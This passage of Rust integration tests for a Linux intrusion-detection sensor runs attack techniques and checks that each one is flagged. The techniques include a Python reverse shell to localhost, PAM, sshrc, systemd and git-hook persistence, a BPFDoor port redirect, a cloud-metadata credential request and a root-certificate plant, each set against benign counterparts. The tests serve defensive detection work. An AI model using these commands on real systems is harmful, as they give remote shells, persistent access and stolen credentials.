fn a_shell_started_on_a_terminal_by_a_program_talking_through_its_standard_streams() {
    if !privileged(
        "a_shell_started_on_a_terminal_by_a_program_talking_through_its_standard_streams",
    ) {
        return;
    }
    let listen = |reply: &'static [u8]| {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = listener.local_addr().expect("addr").port();
        std::thread::spawn(move || {
            if let Ok((mut s, _)) = listener.accept() {
                let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
                let _ = s.write_all(reply);
                let mut sink = Vec::new();
                let _ = std::io::Read::read_to_end(&mut s, &mut sink);
            }
        });
        port
    };
    let program = |port: u16, then: &str| {
        format!(
            "import socket, os, pty, subprocess\n\
             s = socket.create_connection(('127.0.0.1', {port}))\n\
             [os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n\
             {then}\n"
        )
    };
    let port = listen(b"exit\n");
    let found = detect(run(
        Command::new("python3").args(["-c", &program(port, "pty.spawn('/bin/sh')")])
    ));
    let f = of(&found, "behaviour-reverse-shell-stdio-dup");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell");
    assert_eq!(
        f[0].context.additional.get("stdioPeer").map(String::as_str),
        Some(format!("127.0.0.1:{port}").as_str())
    );
    let port = listen(b"");
    let found = detect(run(
        Command::new("python3").args(["-c", &program(port, "subprocess.call(['id'])")])
    ));
    assert!(
        !found
            .iter()
            .any(|f| f.finding_type == "Execution:Runtime/ReverseShell"),
        "{:?}",
        kinds(&found)
    );
}

/// Elastic's Linux persistence rules (`rules/linux/persistence_*`): a PAM module dropped into the
/// module directory and a PAM service written, a NetworkManager dispatcher script, a dracut
/// module, a GRUB setting, a D-Bus system service (copied, and a bus policy moved into place),
/// Python's `sitecustomize.py` written by python, a modprobe `install` line, a KDE autostart
/// script; each as a line of a script file. Reading them raises nothing.
#[test]
fn pam_boot_network_dbus_python_and_modprobe_places_written_as_persistence() {
    if !privileged("pam_boot_network_dbus_python_and_modprobe_places_written_as_persistence") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let pam_dir = [
        "/usr/lib/x86_64-linux-gnu/security",
        "/usr/lib/aarch64-linux-gnu/security",
    ]
    .into_iter()
    .find(|d| Path::new(d).is_dir())
    .unwrap_or("/usr/lib/security");
    let dracut = format!("/usr/lib/dracut/modules.d/99vigil{n}");
    let site = format!("/usr/local/lib/vigil-site-{n}");
    for dir in [
        pam_dir,
        "/etc/pam.d",
        "/etc/NetworkManager/dispatcher.d",
        dracut.as_str(),
        "/etc/default/grub.d",
        "/usr/share/dbus-1/system-services",
        "/etc/dbus-1/system.d",
        site.as_str(),
        "/etc/modprobe.d",
        "/root/.config/autostart-scripts",
    ] {
        clean.dirs(Path::new(dir));
    }
    let scratch = Scratch::new("elastic-persistence");
    let staged = scratch.path("staged");
    std::fs::write(&staged, "# vigil test\n").expect("stage");
    // (path, rule, kind, script line with FILE for the path)
    let cases = [
        (
            format!("{pam_dir}/pam_vigil_{n}.so"),
            "behaviour-persistence-pam",
            "pam",
            "cp /bin/true FILE".to_owned(),
        ),
        (
            format!("/etc/pam.d/vigil-{n}"),
            "behaviour-persistence-pam",
            "pam",
            "printf 'auth sufficient pam_permit.so\\n' > FILE".to_owned(),
        ),
        (
            format!("/etc/NetworkManager/dispatcher.d/99-vigil-{n}"),
            "behaviour-persistence-network-hook",
            "network",
            "printf '#!/bin/sh\\ntrue\\n' > FILE && chmod +x FILE".to_owned(),
        ),
        (
            format!("{dracut}/module-setup.sh"),
            "behaviour-persistence-boot",
            "boot",
            "echo 'check() { return 0; }' | tee FILE > /dev/null".to_owned(),
        ),
        (
            format!("/etc/default/grub.d/99-vigil-{n}.cfg"),
            "behaviour-persistence-boot",
            "boot",
            "echo 'GRUB_CMDLINE_LINUX_DEFAULT=\"quiet\"' > FILE".to_owned(),
        ),
        (
            format!("/usr/share/dbus-1/system-services/org.vigil.T{n}.service"),
            "behaviour-persistence-dbus",
            "dbus",
            format!("cp {staged} FILE"),
        ),
        (
            format!("{site}/sitecustomize.py"),
            "behaviour-persistence-python-hook",
            "python",
            "/usr/bin/python3 -c \"open('FILE', 'w').write('import os\\n')\"".to_owned(),
        ),
        (
            format!("/etc/modprobe.d/vigil-{n}.conf"),
            "behaviour-persistence-modules",
            "modules",
            "echo 'install vigil_none /bin/true' > FILE".to_owned(),
        ),
        (
            format!("/root/.config/autostart-scripts/vigil-{n}.sh"),
            "behaviour-persistence-autostart",
            "autostart",
            "printf '#!/bin/sh\\ntrue\\n' > FILE && chmod +x FILE".to_owned(),
        ),
    ];
    for (i, (path, rule, kind, line)) in cases.iter().enumerate() {
        clean.file(path);
        let pid = sh_file(
            &scratch,
            &format!("case-{i}.sh"),
            &line.replace("FILE", path),
        );
        let found = detect(pid);
        assert!(
            of(&found, rule).iter().any(|f| {
                f.finding_type == "Persistence:Runtime/SuspiciousCommand"
                    && f.context.file_path.as_deref() == Some(path.as_str())
                    && f.context
                        .additional
                        .get("persistenceKind")
                        .map(String::as_str)
                        == Some(*kind)
            }),
            "{line} ({path}): {:?}",
            kinds(&found)
        );
    }
    // A bus policy moved into place (the directory existed when the sensor started).
    let moved = clean.file(format!("/etc/dbus-1/system.d/org.vigil.T{n}.conf"));
    let pid = run(Command::new("mv").args([staged.as_str(), moved.as_str()]));
    expect_persistence(
        &detect(pid),
        "behaviour-persistence-dbus",
        "dbus",
        &moved,
        "mv",
    );
    // Benign: reading them.
    let all: Vec<&str> = cases.iter().map(|(p, _, _, _)| p.as_str()).collect();
    let pid = sh(&format!("cat {} {moved} >/dev/null", all.join(" ")));
    let found = detect(pid);
    assert!(found.is_empty(), "reads: {:?}", kinds(&found));
}

/// Elastic's endpoint behaviour rules (persistence): sshd's login scripts (`~/.ssh/rc`, the
/// system's `/etc/ssh/sshrc`), a logrotate configuration whose `postrotate` runs a program, a
/// script in `/etc/bash_completion.d/`, a systemd sleep hook and an upstart job, each written
/// by a shell's redirection. Reading them, and a file named `rc` or `known_hosts` written
/// elsewhere, raise nothing.
#[test]
fn ssh_login_scripts_logrotate_completion_sleep_hooks_and_upstart_written_as_persistence() {
    if !privileged(
        "ssh_login_scripts_logrotate_completion_sleep_hooks_and_upstart_written_as_persistence",
    ) {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    for dir in [
        "/root/.ssh",
        "/etc/ssh",
        "/etc/logrotate.d",
        "/etc/bash_completion.d",
        "/usr/lib/systemd/system-sleep",
        "/etc/init",
        "/root/.config/fish",
    ] {
        clean.dirs(Path::new(dir));
    }
    let _root_rc = RestoreFile::new("/root/.ssh/rc");
    let _sshrc = RestoreFile::new("/etc/ssh/sshrc");
    let scratch = Scratch::new("elastic-endpoint-persistence");
    let logrotate = clean.file(format!("/etc/logrotate.d/vigil-{n}"));
    let completion = clean.file(format!("/etc/bash_completion.d/vigil-{n}"));
    let sleep_hook = clean.file(format!("/usr/lib/systemd/system-sleep/vigil-{n}"));
    let upstart = clean.file(format!("/etc/init/vigil-{n}.conf"));
    let _xprofile = RestoreFile::new("/root/.xprofile");
    let _fish = RestoreFile::new("/root/.config/fish/config.fish");
    let cases = [
        (
            "/root/.ssh/rc".to_owned(),
            "behaviour-persistence-ssh-rc",
            "sshrc",
            "echo '(nohup /dev/shm/vigil-none >/dev/null 2>&1 &)' >> FILE",
        ),
        (
            "/etc/ssh/sshrc".to_owned(),
            "behaviour-persistence-ssh-rc",
            "sshrc",
            "echo '(nohup /dev/shm/vigil-none >/dev/null 2>&1 &)' >> FILE",
        ),
        (
            logrotate,
            "behaviour-persistence-logrotate",
            "logrotate",
            "printf '/var/log/vigil-none.log {\\n missingok\\n postrotate\\n  /dev/shm/vigil-none\\n endscript\\n}\\n' > FILE",
        ),
        (
            completion,
            "behaviour-persistence-shell-startup",
            "shell",
            "echo '(nohup /dev/shm/vigil-none >/dev/null 2>&1 &)' > FILE",
        ),
        (
            sleep_hook,
            "behaviour-persistence-systemd",
            "systemd",
            "printf '#!/bin/sh\\n/dev/shm/vigil-none\\n' > FILE",
        ),
        (
            upstart,
            "behaviour-persistence-init",
            "init",
            "printf 'start on runlevel [2345]\\nexec /dev/shm/vigil-none\\n' > FILE",
        ),
        (
            "/root/.xprofile".to_owned(),
            "behaviour-persistence-shell-startup",
            "shell",
            "echo '/dev/shm/vigil-none &' >> FILE",
        ),
        (
            "/root/.config/fish/config.fish".to_owned(),
            "behaviour-persistence-shell-startup",
            "shell",
            "echo '/dev/shm/vigil-none &' >> FILE",
        ),
    ];
    for (i, (path, rule, kind, line)) in cases.iter().enumerate() {
        let pid = sh_file(
            &scratch,
            &format!("case-{i}.sh"),
            &line.replace("FILE", path),
        );
        expect_persistence(&detect(pid), rule, kind, path, line);
    }
    // Benign: reading them; the same names written elsewhere.
    let all: Vec<&str> = cases.iter().map(|(p, _, _, _)| p.as_str()).collect();
    let pid = sh(&format!("cat {} >/dev/null", all.join(" ")));
    let found = detect(pid);
    assert!(found.is_empty(), "reads: {:?}", kinds(&found));
    let elsewhere = scratch.path(".ssh");
    std::fs::create_dir_all(&elsewhere).expect("scratch .ssh");
    let pid = sh(&format!(
        "echo x > {0}/rc; echo x > {1}/known_hosts",
        scratch.path("."),
        elsewhere
    ));
    let found = detect(pid);
    assert!(found.is_empty(), "elsewhere: {:?}", kinds(&found));
}

/// SigmaHQ's "Browser Extension Force Install via Policy", "Browser Native Messaging Host"
/// and "Browser External Extension" file-event rules: each written by a shell's redirection is
/// `behaviour-persistence-browser` (kind `browser`); reading them, and the same layout under a
/// scratch directory, raise nothing.
#[test]
fn browser_policies_native_messaging_hosts_and_external_extensions_written_as_persistence() {
    if !privileged(
        "browser_policies_native_messaging_hosts_and_external_extensions_written_as_persistence",
    ) {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    for dir in [
        "/etc/chromium/policies/managed",
        "/etc/chromium/native-messaging-hosts",
        "/usr/share/chromium/extensions",
    ] {
        clean.dirs(Path::new(dir));
    }
    let scratch = Scratch::new("sigma-browser");
    let policy = clean.file(format!("/etc/chromium/policies/managed/vigil-{n}.json"));
    let host = clean.file(format!(
        "/etc/chromium/native-messaging-hosts/com.vigil.{n}.json"
    ));
    let external = clean.file(format!("/usr/share/chromium/extensions/vigil-{n}.json"));
    let cases = [
        (
            policy,
            r#"echo '{"ExtensionInstallForcelist": ["abcdefghijklmnopabcdefghijklmnop;http://127.0.0.1:9/u.xml"]}' > FILE"#,
        ),
        (
            host,
            r#"echo '{"name": "com.vigil.none", "path": "/dev/shm/vigil-none", "type": "stdio"}' > FILE"#,
        ),
        (
            external,
            r#"echo '{"external_update_url": "http://127.0.0.1:9/u.xml"}' > FILE"#,
        ),
    ];
    for (i, (path, line)) in cases.iter().enumerate() {
        let pid = sh_file(
            &scratch,
            &format!("case-{i}.sh"),
            &line.replace("FILE", path),
        );
        expect_persistence(
            &detect(pid),
            "behaviour-persistence-browser",
            "browser",
            path,
            line,
        );
    }
    // Benign: reading them; the same layout under another directory.
    let all: Vec<&str> = cases.iter().map(|(p, _)| p.as_str()).collect();
    let pid = sh(&format!("cat {} >/dev/null", all.join(" ")));
    let found = detect(pid);
    assert!(found.is_empty(), "reads: {:?}", kinds(&found));
    let elsewhere = scratch.path("etc/chromium/policies/managed");
    std::fs::create_dir_all(&elsewhere).expect("scratch policies");
    let pid = sh(&format!("echo '{{}}' > {elsewhere}/x.json"));
    let found = detect(pid);
    assert!(found.is_empty(), "elsewhere: {:?}", kinds(&found));
}

/// SigmaHQ's "Bpfdoor TCP Ports Redirect" (auditd) and "Script Interpreters Cloud Metadata
/// Access" (network connection), in a network namespace of the test's own: BPFDoor's
/// `iptables -t nat -I PREROUTING -s ADDR --dport 22 -j REDIRECT --to-ports 42392` is
/// `evasion-firewall-port-redirect`; python asking the metadata address (held by the
/// namespace's loopback) from inline code is `discovery-cloud-metadata`. A redirect of a
/// whole subnet (a transparent proxy's) raises nothing.
#[test]
fn a_bpfdoor_port_redirect_and_an_interpreter_asking_the_metadata_service() {
    if !privileged("a_bpfdoor_port_redirect_and_an_interpreter_asking_the_metadata_service") {
        return;
    }
    for tool in ["ip", "iptables", "python3"] {
        if let Err(e) = which(tool) {
            not_tested(&e);
            return;
        }
    }
    let ns = format!("vigil-{}", nonce());
    let added = Command::new("ip")
        .args(["netns", "add", &ns])
        .status()
        .expect("ip netns add");
    assert!(added.success(), "ip netns add {ns}");
    struct Netns(String);
    impl Drop for Netns {
        fn drop(&mut self) {
            let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
        }
    }
    let _ns = Netns(ns.clone());
    let in_ns = |args: &[&str]| {
        let mut c = Command::new("ip");
        c.args(["netns", "exec", &ns]).args(args);
        run(&mut c)
    };
    let pid = in_ns(&[
        "iptables",
        "-t",
        "nat",
        "-I",
        "PREROUTING",
        "-p",
        "tcp",
        "-s",
        "192.0.2.1",
        "--dport",
        "22",
        "-j",
        "REDIRECT",
        "--to-ports",
        "42392",
    ]);
    let found = detect(pid);
    let f = of(&found, "evasion-firewall-port-redirect");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "DefenseEvasion:Runtime/SuspiciousCommand"
    );
    let pid = in_ns(&[
        "iptables",
        "-t",
        "nat",
        "-A",
        "PREROUTING",
        "-s",
        "192.168.1.0/24",
        "-p",
        "tcp",
        "--dport",
        "80",
        "-j",
        "REDIRECT",
        "--to-ports",
        "3128",
    ]);
    let found = detect(pid);
    assert!(found.is_empty(), "subnet redirect: {:?}", kinds(&found));
    in_ns(&["ip", "link", "set", "lo", "up"]);
    in_ns(&["ip", "addr", "add", "169.254.169.254/32", "dev", "lo"]);
    let pid = in_ns(&[
        "python3",
        "-c",
        "import urllib.request as u\ntry: u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/', timeout=2)\nexcept Exception: pass",
    ]);
    let found = detect(pid);
    // One per exec that carries the address: a version manager's shim and the interpreter.
    let f = of(&found, "discovery-cloud-metadata");
    assert!(!f.is_empty(), "{:?}", kinds(&found));
    assert_eq!(f[0].finding_type, "Discovery:Runtime/SuspiciousCommand");
}

/// Elastic's "Doas Configuration Creation or Rename" and "Polkit Policy Creation": the other
/// elevation policies written as sudo's is (`behaviour-sudoers-modified`, with the policy named).
/// Reading them raises nothing.
#[test]
fn the_doas_and_polkit_policies_written() {
    if !privileged("the_doas_and_polkit_policies_written") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    clean.dirs(Path::new("/etc/polkit-1/rules.d"));
    let _doas = RestoreFile::new("/etc/doas.conf");
    let rule = clean.file(format!("/etc/polkit-1/rules.d/99-vigil-{n}.rules"));
    let scratch = Scratch::new("elastic-policies");
    for (path, policy, line) in [
        (
            "/etc/doas.conf",
            "doas",
            "echo 'permit nopass vigil-nobody as root' > FILE",
        ),
        (
            rule.as_str(),
            "polkit",
            "echo 'polkit.addRule(function(a, s) { return polkit.Result.NOT_HANDLED; });' | tee FILE >/dev/null",
        ),
    ] {
        let pid = sh_file(
            &scratch,
            &format!("{policy}.sh"),
            &line.replace("FILE", path),
        );
        let found = detect(pid);
        let f = of(&found, "behaviour-sudoers-modified");
        assert!(
            f.iter().any(
                |f| f.finding_type == "PrivilegeEscalation:Runtime/SuspiciousCommand"
                    && f.context.file_path.as_deref() == Some(path)
                    && f.context.additional.get("policy").map(String::as_str) == Some(policy)
            ),
            "{policy}: {:?}",
            kinds(&found)
        );
    }
    let pid = sh(&format!("cat /etc/doas.conf {rule} >/dev/null"));
    let found = detect(pid);
    assert!(found.is_empty(), "reads: {:?}", kinds(&found));
}

/// Elastic's "Suspicious Path Mounted": a process hidden by a bind mount over its /proc
/// directory (`mount --bind EMPTY /proc/PID`, what `ps` then lists without it). A bind mount of
/// one scratch directory onto another raises nothing.
#[test]
fn a_process_hidden_by_a_mount_over_its_proc_directory() {
    if !privileged("a_process_hidden_by_a_mount_over_its_proc_directory") {
        return;
    }
    let scratch = Scratch::new("proc-mount");
    let empty = scratch.path("empty");
    let other = scratch.path("other");
    std::fs::create_dir_all(&empty).expect("empty");
    std::fs::create_dir_all(&other).expect("other");
    let mut hidden = Command::new("sleep")
        .arg("60")
        .stdin(Stdio::null())
        .spawn()
        .expect("sleep");
    let target = format!("/proc/{}", hidden.id());
    let pid = sh(&format!("mount --bind {empty} {target} && umount {target}"));
    let found = detect(pid);
    let _ = hidden.kill();
    let _ = hidden.wait();
    let f = of(&found, "behaviour-process-hidden-by-mount");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].finding_type,
        "DefenseEvasion:Runtime/SuspiciousCommand"
    );
    assert_eq!(
        f[0].context.additional.get("hiddenPid").map(String::as_str),
        Some(hidden.id().to_string().as_str())
    );
    let pid = sh(&format!("mount --bind {empty} {other} && umount {other}"));
    let found = detect(pid);
    assert!(found.is_empty(), "{:?}", kinds(&found));
}

/// Caldera's "Subvert Trust Controls" (T1553.004, as its agent runs it on Debian): a root
/// certificate copied into the system trust store's anchors, a line of a script. Benign: the
/// anchors and the generated bundle read, and an anchor copied out to a scratch directory.
#[test]
fn a_root_certificate_placed_in_the_trust_store() {
    if !privileged("a_root_certificate_placed_in_the_trust_store") {
        return;
    }
    let scratch = Scratch::new("trust");
    let mut clean = Cleanup::default();
    clean.dirs(Path::new("/usr/local/share/ca-certificates"));
    let cert = scratch.path("root.crt");
    std::fs::write(
        &cert,
        "-----BEGIN CERTIFICATE-----\nMIIBvigil\n-----END CERTIFICATE-----\n",
    )
    .expect("write the certificate");
    let anchor = clean.file(format!(
        "/usr/local/share/ca-certificates/vigil-{}.crt",
        nonce()
    ));
    let found = detect(sh_file(
        &scratch,
        "install.sh",
        &format!("cp {cert} {anchor}\n"),
    ));
    let f: Vec<_> = found
        .iter()
        .filter(|f| f.finding_type == "DefenseEvasion:Runtime/SensitiveFileModified")
        .collect();
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(f[0].context.file_path.as_deref(), Some(anchor.as_str()));
    assert_eq!(f[0].severity_label, SeverityLabel::Medium);

    let found = detect(sh_file(
        &scratch,
        "read.sh",
        &format!(
            "ls /usr/local/share/ca-certificates > /dev/null\ncat {anchor} /etc/ssl/certs/ca-certificates.crt > /dev/null 2>&1\ncp {anchor} {}\n",
            scratch.path("copy.crt")
        ),
    ));
    assert!(found.is_empty(), "reading: {:?}", kinds(&found));
}

/// Splunk's "Linux At Allow Config File Creation" and "Possible Append Command To At Allow
/// Config File": who may use at and cron, written as a line of a script (`echo root >>
/// /etc/at.allow`, a user taken off `cron.deny` by rewriting it). Each file is put back as it
/// was. Reading them raises nothing.
#[test]
fn the_at_and_cron_access_lists_written() {
    if !privileged("the_at_and_cron_access_lists_written") {
        return;
    }
    let scratch = Scratch::new("at-allow");
    for path in [
        "/etc/at.allow",
        "/etc/at.deny",
        "/etc/cron.allow",
        "/etc/cron.deny",
    ] {
        let _restore = RestoreFile::new(path);
        let found = detect(sh_file(
            &scratch,
            "allow.sh",
            &format!("echo vigil-test >> {path}\n"),
        ));
        let f: Vec<_> = found
            .iter()
            .filter(|f| f.finding_type == "Persistence:Runtime/SensitiveFileModified")
            .collect();
        assert_eq!(f.len(), 1, "{path}: {:?}", kinds(&found));
        assert_eq!(f[0].context.file_path.as_deref(), Some(path));
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);

        let found = detect(sh_file(
            &scratch,
            "read.sh",
            &format!("cat {path} > /dev/null\ngrep -c vigil {path} > /dev/null\n"),
        ));
        assert!(found.is_empty(), "reading {path}: {:?}", kinds(&found));
    }
}

/// The PAM module directory of this machine (Debian's multiarch one, or the others).
fn pam_module_dir() -> Option<&'static str> {
    [
        "/usr/lib/x86_64-linux-gnu/security",
        "/usr/lib/aarch64-linux-gnu/security",
        "/usr/lib64/security",
        "/usr/lib/security",
    ]
    .into_iter()
    .find(|d| Path::new(d).join("pam_permit.so").exists())
}

/// Aegrah's PANIX, the places the Elastic pass left out, as its modules write them (each a line
/// of a script file, so no argv says what it does): an initramfs-tools hook made executable
/// (`setup_initramfs`), dracut's configuration (`install_items+=`), a kernel install hook, a
/// networkd-dispatcher script in its packaged directory, a local D-Bus session service, and
/// polkit's local authority (a `.pkla` and `AdminIdentities=` in `localauthority.conf.d`:
/// privilege escalation, as the sudo policy). Harmless content and names nothing runs.
/// Reading them raises nothing.
#[test]
fn initramfs_kernel_hooks_local_dbus_and_polkit_authority_written() {
    if !privileged("initramfs_kernel_hooks_local_dbus_and_polkit_authority_written") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let scratch = Scratch::new("panix-places");
    for dir in [
        "/etc/initramfs-tools/hooks",
        "/etc/dracut.conf.d",
        "/etc/kernel/postinst.d",
        "/usr/lib/networkd-dispatcher/routable.d",
        "/usr/local/share/dbus-1/services",
        "/etc/polkit-1/localauthority/50-local.d",
        "/etc/polkit-1/localauthority.conf.d",
    ] {
        clean.dirs(Path::new(dir));
    }
    // (path, rule, kind, script line with FILE for the path)
    let cases = [
        (
            format!("/etc/initramfs-tools/hooks/vigil-{n}"),
            "behaviour-persistence-boot",
            "boot",
            "printf '#!/bin/sh\\nexit 0\\n' > FILE\nchmod +x FILE",
        ),
        (
            format!("/etc/dracut.conf.d/99-vigil-{n}.conf"),
            "behaviour-persistence-boot",
            "boot",
            "echo 'install_items+=\" /vigil-none \"' > FILE",
        ),
        (
            format!("/etc/kernel/postinst.d/zz-vigil-{n}"),
            "behaviour-persistence-boot",
            "boot",
            "printf '#!/bin/sh\\nexit 0\\n' > FILE\nchmod +x FILE",
        ),
        (
            format!("/usr/lib/networkd-dispatcher/routable.d/50-vigil-{n}"),
            "behaviour-persistence-network-hook",
            "network",
            "printf '#!/bin/sh\\nexit 0\\n' > FILE\nchmod +x FILE",
        ),
        (
            format!("/usr/local/share/dbus-1/services/org.vigil.T{n}.service"),
            "behaviour-persistence-dbus",
            "dbus",
            "printf '[D-BUS Service]\\nName=org.vigil.T\\nExec=/bin/true\\n' > FILE",
        ),
    ];
    for (i, (path, rule, kind, line)) in cases.iter().enumerate() {
        clean.file(path);
        let pid = sh_file(
            &scratch,
            &format!("case-{i}.sh"),
            &format!("{}\n", line.replace("FILE", path)),
        );
        let found = detect(pid);
        // The writer's finding, and `chmod +x`'s where the module makes the file executable
        // (another program: another finding).
        let f = of(&found, rule);
        assert!(!f.is_empty(), "{line} ({path}): {:?}", kinds(&found));
        for f in f {
            assert_eq!(f.finding_type, "Persistence:Runtime/SuspiciousCommand");
            assert_eq!(f.severity_label, SeverityLabel::Medium);
            assert_eq!(f.context.file_path.as_deref(), Some(path.as_str()));
            assert_eq!(
                f.context
                    .additional
                    .get("persistenceKind")
                    .map(String::as_str),
                Some(*kind),
                "{path}"
            );
        }
    }
    // polkit's local authority: its policy, raised as the sudo policy is.
    let pkla = clean.file(format!(
        "/etc/polkit-1/localauthority/50-local.d/vigil-{n}.pkla"
    ));
    let admins = clean.file(format!(
        "/etc/polkit-1/localauthority.conf.d/60-vigil-{n}.conf"
    ));
    for (path, line) in [
        (
            &pkla,
            "printf '[vigil]\\nIdentity=unix-user:vigil-nobody\\nAction=org.vigil.none\\nResultAny=no\\n' > FILE",
        ),
        (
            &admins,
            "printf '[Configuration]\\nAdminIdentities=unix-user:vigil-nobody\\n' > FILE",
        ),
    ] {
        let pid = sh_file(
            &scratch,
            "polkit.sh",
            &format!("{}\n", line.replace("FILE", path)),
        );
        let found = detect(pid);
        assert!(
            of(&found, "behaviour-sudoers-modified").iter().any(|f| {
                f.finding_type == "PrivilegeEscalation:Runtime/SuspiciousCommand"
                    && f.context.file_path.as_deref() == Some(path.as_str())
                    && f.context.additional.get("policy").map(String::as_str) == Some("polkit")
            }),
            "{path}: {:?}",
            kinds(&found)
        );
    }
    let all: Vec<&str> = cases.iter().map(|(p, _, _, _)| p.as_str()).collect();
    let pid = sh(&format!("cat {} {pkla} {admins} >/dev/null", all.join(" ")));
    let found = detect(pid);
    assert!(found.is_empty(), "reads: {:?}", kinds(&found));
}

/// dpkg installing a package that ships files into the places of PANIX's modules (a
/// dispatcher script, a D-Bus service, a polkit rule, a PAM module, a dracut module, an
/// initramfs hook, a kernel install hook, a networkd-dispatcher script), its postinst writing a
/// PAM service: no persistence or polkit finding, nothing at Medium or above on what dpkg
/// unpacked or on what its maintainer script wrote (no `SensitiveFileModified` for the PAM
/// service: a package manager's descendants install). Purging raises no persistence finding
/// either.
#[test]
fn a_package_installs_hooks_services_and_boot_files_quietly() {
    if !privileged("a_package_installs_hooks_services_and_boot_files_quietly") {
        return;
    }
    if !Path::new("/usr/bin/dpkg").exists() {
        eprintln!("NOT TESTED package manager: no /usr/bin/dpkg");
        return;
    }
    let Some(modules) = pam_module_dir() else {
        panic!("no PAM module directory with pam_permit.so on this machine");
    };
    let n = nonce();
    let name = format!("vigil-test-{}", n.to_ascii_lowercase().replace('x', "-"));
    let cron = format!("/etc/cron.d/vigil-pkg-{n}");
    let pam = format!("/etc/pam.d/vigil-pkg-{n}");
    let shipped = [
        (
            format!("/etc/NetworkManager/dispatcher.d/99-vigil-pkg-{n}"),
            0o755,
        ),
        (
            format!("/usr/share/dbus-1/system-services/org.vigil.pkg{n}.service"),
            0o644,
        ),
        (
            format!("/etc/polkit-1/rules.d/99-vigil-pkg-{n}.rules"),
            0o644,
        ),
        (format!("{modules}/pam_vigil_pkg_{n}.so"), 0o644),
        (
            format!("/usr/lib/dracut/modules.d/99vigilpkg{n}/module-setup.sh"),
            0o755,
        ),
        (format!("/etc/initramfs-tools/hooks/vigil-pkg-{n}"), 0o755),
        (format!("/etc/kernel/postinst.d/zz-vigil-pkg-{n}"), 0o755),
        (
            format!("/usr/lib/networkd-dispatcher/routable.d/50-vigil-pkg-{n}"),
            0o755,
        ),
    ];
    let mut clean = Cleanup::default();
    for dir in [
        "/etc/NetworkManager/dispatcher.d",
        "/usr/share/dbus-1/system-services",
        "/etc/polkit-1/rules.d",
        "/usr/lib/dracut/modules.d",
        "/etc/initramfs-tools/hooks",
        "/etc/kernel/postinst.d",
        "/usr/lib/networkd-dispatcher/routable.d",
    ] {
        clean.dirs(Path::new(dir));
    }
    clean.file(&cron);
    clean.file(&pam);
    for (path, _) in &shipped {
        clean.file(path);
    }
    let dir = Scratch::new("pkg-panix");
    let extra: Vec<(&str, u32)> = shipped.iter().map(|(p, m)| (p.as_str(), *m)).collect();
    let deb = package(&dir, &name, &cron, &pam, &extra);
    let pid = dpkg(&["-i", &deb]);
    let installed = detect(pid);
    let _purge = UndoOnDrop::new("dpkg", &["--purge", &name]);
    assert!(Path::new(&pam).exists() && shipped.iter().all(|(p, _)| Path::new(p).exists()));
    let serious: Vec<_> = installed
        .iter()
        .filter(|f| {
            rule(f).starts_with("behaviour-persistence-")
                || rule(f) == "behaviour-sudoers-modified"
                || f.severity_label >= SeverityLabel::Medium
                    && (shipped
                        .iter()
                        .any(|(p, _)| f.context.file_path.as_deref() == Some(p.as_str()))
                        || f.context.file_path.as_deref() == Some(pam.as_str()))
        })
        .map(|f| {
            (
                f.finding_type.clone(),
                rule(f).to_owned(),
                f.context.file_path.clone(),
            )
        })
        .collect();
    assert!(serious.is_empty(), "dpkg and its postinst: {serious:?}");
    let pid = dpkg(&["--purge", &name]);
    assert!(
        detect(pid)
            .iter()
            .all(|f| !rule(f).starts_with("behaviour-persistence-")
                && rule(f) != "behaviour-sudoers-modified")
    );
}

/// PANIX's git module: an executable `pre-commit` hook written into a repository by a script
/// (`echo ... > .git/hooks/pre-commit; chmod +x`), and `core.pager = CMD & ${PAGER:-less}`
/// appended to a global configuration (`$HOME/.gitconfig`, HOME a scratch directory here), and
/// the same pager set with `git config --global` (git renames its lock file into place).
/// Benign twins raise nothing at Medium or above: `git init` (its templates), `git config
/// --global user.name`, a plain pager set with git config, a commit that runs no hook.
#[test]
fn git_hooks_and_git_command_settings_written_as_persistence() {
    if !privileged("git_hooks_and_git_command_settings_written_as_persistence") {
        return;
    }
    let Ok(git) = which("git") else {
        eprintln!("NOT TESTED git persistence: no git");
        return;
    };
    let scratch = Scratch::new("git");
    let home = scratch.path("home");
    let repo = scratch.path("repo");
    std::fs::create_dir_all(&home).expect("home");
    let loud = |found: &[Finding]| -> Vec<(String, String)> {
        found
            .iter()
            .filter(|f| f.severity_label >= SeverityLabel::Medium)
            .map(|f| (f.finding_type.clone(), rule(f).to_owned()))
            .collect()
    };
    let git_in = |args: &[&str]| {
        LazyLock::force(&AGENT);
        let mut child = Command::new(&git)
            .args(args)
            .env("HOME", &home)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .current_dir(&scratch.0)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("git");
        let pid = child.id();
        assert!(child.wait().expect("wait").success(), "git {args:?}");
        pid
    };
    // Benign: a repository made, a person's settings, a plain pager.
    for args in [
        &["init", "-q", repo.as_str()][..],
        &["config", "--global", "user.name", "Vigil Test"][..],
        &["config", "--global", "user.email", "t@example.invalid"][..],
        &["config", "--global", "core.pager", "less -FRX"][..],
    ] {
        let found = detect(git_in(args));
        assert!(loud(&found).is_empty(), "git {args:?}: {:?}", kinds(&found));
    }
    let hook = format!("{repo}/.git/hooks/pre-commit");
    let pid = sh_file(
        &scratch,
        "hook.sh",
        &format!(
            "echo '#!/bin/bash' > {hook}\necho '(nohup setsid /bin/true >/dev/null 2>&1 &) &' >> {hook}\nchmod +x {hook}\n"
        ),
    );
    let found = detect(pid);
    let f = of(&found, "behaviour-persistence-git-hook");
    assert!(!f.is_empty(), "hook: {:?}", kinds(&found));
    for f in f {
